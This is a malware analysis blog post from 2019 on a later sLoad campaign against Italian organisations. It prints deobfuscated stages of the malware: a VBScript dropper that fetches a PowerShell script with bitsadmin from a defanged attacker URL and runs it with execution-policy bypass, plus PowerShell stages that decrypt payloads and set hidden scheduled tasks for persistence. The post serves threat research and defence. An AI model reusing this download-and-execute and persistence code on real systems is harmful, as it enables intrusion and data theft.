The sLoad Threat: Ten Months Later

Pierluigi Paganini October 04, 2019

Since September 2018, SLoad (tracked as TH-163) is the protagonist of an increasing and persistent wave of attacks against Italian organizations.


SLoad (TH-163) is the protagonist of increasing and persistent attack waves against the Italian panorama since Q3 2018 and then in 2019 (e.g N020419N040619N010819), but also against the UK and Canada as reported by Proofpoint. Ten months ago, we wrote about the complex infection chain the sLoad malware threat was using during its attack campaigns, and today we are looking at the evolution of the threat by dissecting one of its latest attacks.

During our CSDC monitoring operation, we recently noticed some changes in the infamous attack waves related to sLoad, which is known for adopting a complex infection chain using to spread additional malware. For this reason Cybaze-Yoroi ZLAB dissected one latest ones.Technical Analysis

According to CERT-PA investigations, the malware has recently been delivered using legit certified emails (PEC). These recent attack waves were targeting Italians Organizations and consultants affiliated to Professional associations, such as lawyers and civil engineers. Once again the attachment is a malicious zip.

Figure 1: Example of mail (source:CERT-PA)

The Infection Chain

Figure 2: Files contained in attachment file zip

This time the zip does not hide powershell code, such the appended one recovered in the past waves. The archive contains two files: a corrupted PDF file and a VBScript. The first one is designed to deceive the unaware user and force him to open the runnable script.

In the following tables are shown some basic information about samples contained in the zip archive.

Threat.vbs dropper
Brief DescriptionSload visual basic script loaderTable 1: Information about SLoad .vbs dropper

Threat.pdf file
Brief DescriptionSload corrupted pdf file

Table 2: Information about SLoad .pdf file

Opening the vbs dropper is possible to see an obfuscated script containing several junk instructions like unused variables and commented codes. After a deobfuscation phase is possible to see the inner logic. The purpose of this script is launch start a powershell script retrieved from the attacker infrastructures and, in the meantime, decoy the victim.

  1. On Error Resume Next
  2. Set ZCzG = CreateObject(“Scripting.FileSystemObject”)
  3. Set PavfQt = WScript.CreateObject (“WScript.Shell”)
  4. Set XaiX = ZCzG.GetFolder(“c:\Users\”)
  5. Recurse(XaiX)
  6. “bitsadmin /transfer OkFCVS /download /priority FOREGROUND c:\Users\Public\Downloads\RSbYHuPO.ps1”,0,True
  7. i=0
  8. Do While i < 1
  9. If (ZCzG.FileExists(“c:\Users\Public\Downloads\RSbYHuPO.ps1”)) Then
  10. i=1
  11. End If
  12. WScript.Sleep(2280)
  13. Loop14. “powershell.exe -ep bypass -file c:/users/public/downloads/RSbYHuPO.ps1 “,0,True
  15. Sub Recurse(JFLY)
  16. If IsAccessible(JFLY) Then
  17. For Each oSubFolder In JFLY.SubFolders
  18. Recurse oSubFolder
  19. Next
  20. For Each RIst In JFLY.Files
  21. IfInStr(RIst.Name,”.pdf”) > 0 Then
  22. “explorer “+JFLY+”\”+RIst.Name
  23. End if
  24. Next
  25. End If
  26. End Sub
  27. Function IsAccessible(XaiX)
  28. On Error Resume Next
  29. IsAccessible = (XaiX.SubFolders.Count >= 0)
  30. End Function

Code snippet 1: Deobfuscated vbs dropper

The malware downloads a fake jpg using the using “bitsadmin.exe”  tool from “hxxps://dreamacinc[.com/UCP9dATGyt6mJ/srdzHcN4bWUum[.jpg”. The usage of native tools allow thescript to operate under the radar avoiding several AVs controls. The fake jpg actually contains a powershell script.

  1. $oLZz2= “C:\Users\admin\AppData\Roaming”;
  2. $YwbpkcN9XUIv1w=@(1..16);
  3. […]
  4. $main_ini=’76492d1116743f0423413b16050a5345MgB8ADUAVAB4 […] AMQAyAGYA’;
  5. $main_ini | out-file $PaIQGLoo’\main.ini’;
  6. $domain_ini=’76492d1116743f0423413b1605 […] YwBlAA==’;
  7. $domain_ini | out-file $PaIQGLoo’\domain.ini’;
  8. […]
  9. try{ […]
  10. }catch{$yC0iBerAupzdtf5Z=Get-Process -name powershell*;
  11. if ($yC0iBerAupzdtf5Z.length -lt 2){
  12. $EXhfbIPG7pUAEZzgZEnM = (Get-WmiObject Win32_ComputerSystemProduct).UUID ;
  13. $r=8;
  14. $B3xcDMBF=$EXhfbIPG7pUAEZzgZEnM.Substring(0,$r);
  15. $zjGQzSypyGPthusR = $047MydhkAAfp1W+”\”+$B3xcDMBF;
  16. $sv8eJJhgWV3xAN7Uu=@(1..16);
  17.$umwTVcIoudRlXjR6yAQQ= Get-Content “main.ini”$MLUkmHrgbpKyVEt8nS= ConvertTo-SecureString $umwTVcIoudRlXjR6yAQQ -key $sv8eJJhgWV3xAN7Uu;
  18. $AKXy3OFCowsfie = [System.Runtime.InteropServices.Marshal]::SecureStringToBSTR($MLUkmHrgbpKyVEt8nS);
  19. $DBR4S3t = [System.Runtime.InteropServices.Marshal]::PtrToStringAuto($AKXy3OFCowsfie);
  20. Invoke-Expression $DBR4S3t;
  21. }
  22. } | out-file $PaIQGLoo’\’$H3z9RnzIihO8′.ps1′
  23. $OFHc0H4A=’ /F /create /sc minute /mo 3 /TN “S’+$rs+$fLCg9ngJqRHX36hfUr+'” /ST 07:00 /TR “wscript /E:vbscript ‘+$PaIQGLoo+’\’+$JxdRWnHC+’.tmp”‘;
  24. start-process -windowstyle hidden schtasks $OFHc0H4A; […]

Code snippet 2: Downloaded powershell code

The first action the script  does is to set a scheduled task to grant persistence on the infected machine. Then, after selection a random active process on infected machine (“System” in this specific infection) and concatenation it with the “%AppData%\Roaming” path, it stores four different files in his installation folder.

  • <random_name>.tmp• <random_name>.ps1
  • domain.ini
  • main.ini

All of them are embedded in the script; furthermore, two of them (“domain.ini” and “main.ini”)  are encrypted using the “ConvertFrom-SecureString”  native function. Then, the script runs the “UoqOTQrc.tmp” file, having the only purpose to execute the “UoqOTQrc.ps1” file contained in the same folder.

Figure 3: Files created in “%AppData%\Roaming\<active_process>\”
  1. Dim str, min, max
  2. Const LETTERS = “abcdefghijklmnopqrstuvwxyz”
  3. min = 1
  4. max = Len(LETTERS)
  5. Randomize
  6. […]
  7. Set objFSO=CreateObject(“Scripting.FileSystemObject”)
  8. Set winssh = WScript.CreateObject (“WScript.Shell”)
  9. fName=RandomString(10)
  10. JAcalshy=RandomString(4)
  11. fZgxNPDMnu=RandomString(4)
  12. WEHxctVdTEoDfqEqJMP=RandomString(4)
  13. […]
  14. Set objFile = objFSO.CreateTextFile(outFile,8, True)
  15. objFile.Write “Set “+JAcalshy+”=rshe” & vbCrLf
  16. objFile.Write “Set “+fZgxNPDMnu+”=ypa” & vbCrLf
  17. objFile.Write “Set “+WEHxctVdTEoDfqEqJMP+”=il” & vbCrLf
  18. objFile.Close19. “powershell -ep bypass -file .ps1”,0,true

Code snippet 3: content of “UoqOTQrc.tmp” file.

  1. try{
  2. Remove-EventLog:Debug-Job
  3. Export-BinaryMiLog:Get-PSSessionConfiguration
  4. Remove-JobTrigger:New-Item
  5. }catch{
  6.$yC0iBerAupzdtf5Z=Get-Process -name powershell*;
  7. if ($yC0iBerAupzdtf5Z.length -lt 2){
  8. $EXhfbIPG7pUAEZzgZEnM = (Get-WmiObject Win32_ComputerSystemProduct).UUID ;$r=8;
  9. $B3xcDMBF=$EXhfbIPG7pUAEZzgZEnM.Substring(0,$r);
  10. $zjGQzSypyGPthusR = $047MydhkAAfp1W+”\”+$B3xcDMBF;
  11. $sv8eJJhgWV3xAN7Uu=@(1..16);
  12. $umwTVcIoudRlXjR6yAQQ= Get-Content “main.ini”
  13. $MLUkmHrgbpKyVEt8nS= ConvertTo-SecureString $umwTVcIoudRlXjR6yAQQ -key $sv8eJJhgWV3xAN7Uu;
  14. $AKXy3OFCowsfie =
  15. [System.Runtime.InteropServices.Marshal]::SecureStringToBSTR($MLUkmHrgbpKyVEt8nS);
  16. $DBR4S3t = [System.Runtime.InteropServices.Marshal]::PtrToStringAuto($AKXy3OFCowsfie);
  17. Invoke-Expression$DBR4S3t;
  18. }

Code snippet 4: content of “UoqOTQrc.ps1” file.

In the same way, the “UoqOTQrc” script decrypts the “mini.ini” file using the “ConvertFrom-SecureString” function and the ecnryption key contained in “$sv8eJJhgWV3xAN7Uu” variable, a sequential integer array.

Figure 4: “main.ini” file before and after decryptionThe decrypted “main.ini” script tries to ping a URL generated selecting three ascii char-codes in ranges [65-90] and [67-122]. Then, it decrypts “domain.ini” using the key in the “$main_key” variable. In the end, it saves the results in the “btc.log” file. Continuing the analysis of “main.ini” is possible to spot that the script also grabs system information to check-in the newly infected host.

Figure 5: “domain.ini” file before and after decryption
Figure 6: Some information exfiltrate by the malware before and after base64 decoding

At this point, another malicious file is downloaded. The malware retrieves it from “hxxps://<C2_URL>/doc/x2401.jpg”. Once again, this is not a real jpg, but rather another obfuscated powershell layer.

  1. $u2K2MQ4 = “`r`n”
  2. $lNlNrKyk= –join ((65..90) + (97..122) | Get-Random -Count 8 | % {[char]$_})
  3. $yIXgWSaXsKD5hanf9uO= $env:userprofile+’\App’+’Da’+’ta\Ro’+’am’+’ing’;
  4. $hh=’hi’+’dd’+’en’;
  5. $ixXApGeqJKEGY=@(1..16);
  6. $Erlydjiyy = (Get-WmiObject Win32_ComputerSystemProduct);
  7. $Erlydj = $Erlydjiyy.UUID;
  8. $sOmUGoc0ysV8UW=$Erlydj.Substring(0,6);
  9. $Z5lTNXB = $yIXgWSaXsKD5hanf9uO+”\”+$sOmUGoc0ysV8UW;
  10. If(!(test-path $Z5lTNXB)){New-Item -ItemType Directory -Force -Path $Z5lTNXB}
  11. If(test-path $Z5lTNXB”\_in”){$gQd0DB82ByQ0pziwKZ=Get-ChildItem $Z5lTNXB”\_in”;$FQDO2rSjJJxrkrYFWM1W = Get-Date;if($gQd0DB82ByQ0pziwKZ.LastWriteTime -gt $FQDO2rSjJJxrkrYFWM1W.AddMinutes(-30)){break;break;}}; “1” | out-file $Z5lTNXB”\_in”;
  12. try{ Remove-Item $Z5lTNXB’\*’}catch{}
  13. $wsxDITPgQCH+=’76492d1116743f0423413b16050a5345MgB8AGsAKwBwAHkASQBUAGgAWgBKAEsAbgBFAE8AUQBHA’;
  14. […]
  16. $wsxDITPgQCH+=’3ADAANQA1AA==’;
  17. $wsxDITPgQCH | out-file $Z5lTNXB’\config.ini’;
  18. $5r8DcJB4ok4+=’76492d1116743f0423413b16050a5345MgB8AHQAYgBqAFYAVQBQADUAQwBNAGEAZABWAFMA’;
  19. […]
  21. $5r8DcJB4ok4 | out-file $Z5lTNXB’\web.ini’;
  22. start-process -windowstyle $hh schtasks‘/change /tn GoFast /disable’;
  23. $2aWxu9dutZfOPCCgS+=$u2K2MQ4+’Dim ‘;
  24. […]
  25. $nz0oninX6=$ixXApGeqJKEGY -join ‘,’;
  26. $E6M6Np8nhXnu4ndPEJ=’ /F /create /sc minute /mo 3 /TN “U’+$sOmUGoc0ysV8UW+'” /ST 07:00 /TR “wscript /E:vbscript ‘+$Z5lTNXB+’\’+$lNlNrKyk+’.tmp”‘;
  27. start-process -windowstyle $hh schtasks $E6M6Np8nhXnu4ndPEJ;

Code snippet 5: Obfuscated content of “x2401.jpg” file.

  1. $u2K2MQ4 = “rn”;
  2. $lNlNrKyk= –join ((65..90) + (97..122) | Get-Random -Count 8 | % {[char]$_});
  3. $yIXgWSaXsKD5hanf9uO= $env:userprofile+’\AppData\Roaming’;4. $Erlydjiyy = (Get-WmiObject Win32_ComputerSystemProduct);
  5. $Erlydj = $Erlydjiyy.UUID;
  6. $sOmUGoc0ysV8UW=$Erlydj.Substring(0,6);
  7. $Z5lTNXB = $yIXgWSaXsKD5hanf9uO+”\”+$sOmUGoc0ysV8UW;
  8. If(!(test-path $Z5lTNXB)){New-Item -ItemType Directory -Force -Path $Z5lTNXB}
